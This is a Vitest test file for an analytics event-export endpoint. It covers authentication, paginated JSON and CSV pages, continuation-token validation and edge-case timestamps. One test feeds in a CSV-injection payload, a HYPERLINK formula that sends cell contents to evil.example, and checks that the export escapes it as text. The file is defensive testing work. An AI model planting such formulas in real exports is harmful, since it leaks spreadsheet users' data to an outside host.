import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { EXPORT_MAX_ROWS } from '../../src/reports/report-query.js';
import { BROWSER_UA, beaconUrl, startTestServer, testHit, type TestServer } from '../helpers/test-server.js';

let t: TestServer;
let clock = Date.UTC(2026, 10, 23, 9, 0, 0);
const RANGE = 'from=2026-11-23&to=2026-11-23';
const HITS = 7;

/** A server holding the seven hits. */
async function startWithHits(): Promise<TestServer> {
  t = await startTestServer({}, () => clock);
  // Pairs of hits share a receive time: the order must still be total for pages not to overlap.
  for (let i = 0; i < HITS; i += 1) {
    clock = Date.UTC(2026, 10, 23, 9, 0, Math.floor(i / 2));
    const hit = testHit({ pageName: `page-${i}`, visitor: { fid: '1F65FB944AFA1C05-25FBFAF16BF6E758' } });
    const response = await t.server.app.inject({ url: beaconUrl(hit), headers: { 'user-agent': BROWSER_UA } });
    expect(response.statusCode).toBe(200);
  }
  return t;
}

async function get(url: string) {
  return t.server.app.inject({ url, headers: await t.authHeaders('analyst') });
}

describe('GET /api/export/events, bounded', () => {
  // Most tests only read the seven hits: they share one server holding them, since starting a
  // server costs seconds. A test that sends a hit more gets a server of its own.
  describe('of the seven hits', () => {
    let shared: TestServer;
    let sentUntil = clock;
    beforeAll(async () => {
      shared = await startWithHits();
      sentUntil = clock;
    }, 60_000);
    afterAll(async () => {
      await shared?.dispose();
    });
    beforeEach(() => {
      t = shared;
      clock = sentUntil;
    });

    it('needs a signed-in analyst', async () => {
      expect((await t.server.app.inject({ url: `/api/export/events?${RANGE}` })).statusCode).toBe(401);
    });

    it('cuts the export into pages that together reproduce it exactly', async () => {
      const whole = await get(`/api/export/events?${RANGE}`);
      expect(whole.statusCode).toBe(200);
      expect(whole.headers['x-mesura-next']).toBeUndefined();
      const all = whole.json() as { event_id: string }[];
      expect(all).toHaveLength(HITS);

      const pages: { event_id: string }[][] = [];
      let url: string | undefined = `/api/export/events?${RANGE}&limit=3`;
      while (url) {
        const response = await get(url);
        expect(response.statusCode).toBe(200);
        pages.push(response.json());
        const link = response.headers.link as string | undefined;
        url = link ? /^<([^>]+)>; rel="next"$/.exec(link)?.[1] : undefined;
        if (link) expect(url).toContain(`after=${encodeURIComponent(String(response.headers['x-mesura-next']))}`);
      }
      expect(pages.map((p) => p.length)).toEqual([3, 3, 1]);
      expect(pages.flat()).toEqual(all);
    });

    it('continues CSV pages with one header line each', async () => {
      const first = await get(`/api/export/events?${RANGE}&format=csv&limit=4`);
      const token = String(first.headers['x-mesura-next']);
      const second = await get(`/api/export/events?${RANGE}&format=csv&limit=4&after=${token}`);
      const lines = (body: string) => body.split('\r\n').filter(Boolean);
      expect(lines(first.body)).toHaveLength(1 + 4);
      expect(lines(second.body)).toHaveLength(1 + 3);
      expect(second.headers['x-mesura-next']).toBeUndefined();
    });

    it.each([
      ['limit=0', `limit must be an integer from 1 to ${EXPORT_MAX_ROWS}`],
      [`limit=${EXPORT_MAX_ROWS + 1}`, `limit must be an integer from 1 to ${EXPORT_MAX_ROWS}`],
      ['after=not-a-token', 'after is not a continuation token of this export'],
      [`after=${Buffer.from('{"v":1,"r":-5,"e":"x","s":"mesuradev"}').toString('base64url')}`, 'after is not a continuation token of this export'],
    ])('answers %s with 400 and one line', async (param, reason) => {
      const response = await get(`/api/export/events?${RANGE}&${param}`);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ error: reason, code: 'MESURA_ERR_BAD_QUERY' });
    });

    it("refuses a token of another suite's export", async () => {
      const first = await get(`/api/export/events?${RANGE}&limit=2`);
      const token = String(first.headers['x-mesura-next']);
      const response = await get(`/api/export/events?${RANGE}&suite=mesurapro&after=${token}`);
      expect(response.statusCode).toBe(400);
      expect(response.json().error).toBe('after continues an export of another report suite');
    });
  });

  describe('with a hit more', () => {
    beforeEach(async () => {
      await startWithHits();
    }, 60_000);
    afterEach(async () => {
      await t.dispose();
    });

    it('exports a hit whose client clock is centuries off, as the time it said', async () => {
      // MAX_CLIENT_YEAR lets 9999 in; DuckDB's nanosecond time ends in 2262.
      const hit = testHit({ pageName: 'rellotge-espatllat', clientTime: { day: 1, month0: 8, year: 2300, hour: 21, minute: 20, second: 0, weekday: 5, tzOffsetMin: 0 } });
      expect((await t.server.app.inject({ url: beaconUrl(hit), headers: { 'user-agent': BROWSER_UA } })).statusCode).toBe(200);
      const answer = await get(`/api/export/events?${RANGE}`);
      expect(answer.statusCode, answer.body).toBe(200);
      const row = (answer.json() as { event_id: string; client_time: string | null }[]).find((r) => r.event_id === hit.eventId);
      expect(row?.client_time).toMatch(/^2300-09-01T/);
    });

    it('writes a page name a spreadsheet would run as a formula as text (OWASP CSV injection)', async () => {
      const pageName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      const hit = testHit({ pageName, visitor: { fid: '1F65FB944AFA1C05-25FBFAF16BF6E758' } });
      expect((await t.server.app.inject({ url: beaconUrl(hit), headers: { 'user-agent': BROWSER_UA } })).statusCode).toBe(200);
      const answer = await get(`/api/export/events?${RANGE}&format=csv`);
      expect(answer.statusCode, answer.body).toBe(200);
      expect(answer.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
      expect(answer.body).not.toMatch(/(^|,)=HYPERLINK/m);
    });
  });
});
